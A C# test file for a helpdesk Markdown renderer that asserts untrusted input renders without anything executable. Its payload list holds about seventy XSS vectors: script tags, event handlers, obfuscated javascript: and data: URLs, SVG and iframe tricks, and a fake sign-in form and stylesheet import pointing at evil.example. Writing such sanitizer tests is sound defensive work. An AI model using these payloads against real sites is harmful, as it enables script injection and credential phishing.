using AngleSharp.Html.Parser;
using Helpdesk.Core.Knowledge.Rendering;

namespace Helpdesk.Tests.Core.Knowledge;

/// <summary>
/// Markdown and pasted HTML are untrusted. Whatever is written, the rendered article holds only a
/// short list of text elements, plain attributes and http(s)/mailto/relative links: nothing that runs.
/// </summary>
public sealed class MarkdownSanitizingTests
{
    private static readonly HashSet<string> AllowedTags =
    [
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "b", "em", "i", "u", "s", "del", "ins", "mark",
        "sub", "sup", "small", "blockquote", "pre", "code", "kbd", "samp", "ul", "ol", "li", "dl", "dt", "dd",
        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "a", "img", "span", "div", "abbr",
    ];
    private static readonly HashSet<string> AllowedAttributes = ["href", "src", "alt", "title", "colspan", "rowspan", "start", "target", "rel"];

    private readonly MarkdownRenderer _renderer = new();

    public static TheoryData<string> Payloads =>
    [
        // Script elements, plain and disguised
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\x20type=\"text/javascript\">alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        // Event handlers
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>",
        "<p/onclick=alert(1)>x</p>",
        "<img src=\"x\"/onerror=\"alert(1)\">",
        // javascript: and other schemes, in Markdown and HTML, obfuscated
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java&#09;script:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click]( javascript:alert(1))",
        "<javascript:alert(1)>",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "![x](javascript:alert(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<a href=\"file:///etc/passwd\">x</a>",
        // Style tricks
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white\">Sign in again</div>",
        "<style>body{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<p class=\"mud-overlay mud-overlay-dark\">x</p>",
        "<span style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">x</span>",
        // SVG, MathML, frames, objects, forms
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<template><script>alert(1)</script></template>",
        // Nested and broken markup, comments, attribute smuggling
        "<div><div><div><img src=x onerror=alert(1)></div></div></div>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<a href=\"https://ok.example\" id=\"__proto__\" name=\"body\">x</a>",
        "<img src=x id=location>",
        "<p data-x=\"1\" data-bind=\"alert(1)\">x</p>",
        "<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">x</a>",
        "[x](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
        "*emphasis* <img src=x onerror=alert(1)> **strong**",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
        "> quote <iframe src=https://evil.example>",
        "Text {onclick=alert(1)}\n\n# Heading {#x onclick=alert(1)}",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void NothingThatRunsSurvivesRendering(string markdown)
    {
        var html = _renderer.ToHtml(markdown).Value;

        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.True(AllowedTags.Contains(element.LocalName), $"<{element.LocalName}> survived: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(AllowedAttributes.Contains(attribute.LocalName), $"{attribute.LocalName}= survived on <{element.LocalName}>: {html}");
                if (attribute.LocalName is "href" or "src") AssertSafeUrl(attribute.Value, html);
                Assert.DoesNotContain("script:", string.Concat(attribute.Value.Where(c => !char.IsWhiteSpace(c))), StringComparison.OrdinalIgnoreCase);
            }
        }
        // What is left of a payload is text: "javascript:alert(1)" may be read, never run.
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void EveryLinkOpensApartWithoutAHandleOnThePage()
    {
        var html = _renderer.ToHtml("See [the VPN guide](https://intranet.example/vpn) or <https://example.test>.").Value;

        var links = new HtmlParser().ParseDocument(html).QuerySelectorAll("a");
        Assert.Equal(2, links.Length);
        Assert.All(links, a =>
        {
            Assert.Equal("_blank", a.GetAttribute("target"));
            Assert.Equal("noopener noreferrer nofollow", a.GetAttribute("rel"));
        });
    }

    [Fact]
    public void OrdinaryMarkdownStillRenders()
    {
        var html = _renderer.ToHtml("""
            ## Steps

            1. Open **Settings**
            2. Choose *Network* and `vpn.example.com`

            | Field | Value |
            |---|---|
            | Server | vpn.example.com |

            ![Screenshot](/img/vpn.png "The client")

            Mail [the desk](mailto:desk@example.test).
            """).Value;

        Assert.Contains("<h2>Steps</h2>", html);
        Assert.Contains("<ol>", html);
        Assert.Contains("<strong>Settings</strong>", html);
        Assert.Contains("<code>vpn.example.com</code>", html);
        Assert.Contains("<table>", html);
        Assert.Contains("<img src=\"/img/vpn.png\" alt=\"Screenshot\" title=\"The client\">", html);
        Assert.Contains("href=\"mailto:desk@example.test\"", html);
    }

    [Fact]
    public void TheTextOfADroppedScriptIsNotShownButUnknownTagsKeepTheirText()
    {
        var html = _renderer.ToHtml("Before <script>alert('x')</script><font color=red>kept</font> after").Value;

        Assert.DoesNotContain("alert", html);
        Assert.Contains("kept", html);
        Assert.DoesNotContain("font", html);
    }

    [Fact]
    public void PlainTextHasNoMarkupAndNoScriptText()
    {
        var text = _renderer.ToPlainText("# Title\n\nSome **bold** text & <script>steal()</script>a [link](https://x.example).\n\n- one\n- two");

        Assert.Equal("Title\nSome bold text & a link.\none\ntwo", text);
    }

    private static void AssertSafeUrl(string url, string html)
    {
        var trimmed = url.Trim();
        if (Uri.TryCreate(trimmed, UriKind.Absolute, out var absolute) && !trimmed.StartsWith('/'))
            Assert.True(absolute.Scheme is "http" or "https" or "mailto", $"URL scheme {absolute.Scheme} survived: {html}");
        else
            Assert.DoesNotContain(":", trimmed.Split('/', '?', '#')[0]);
    }
}
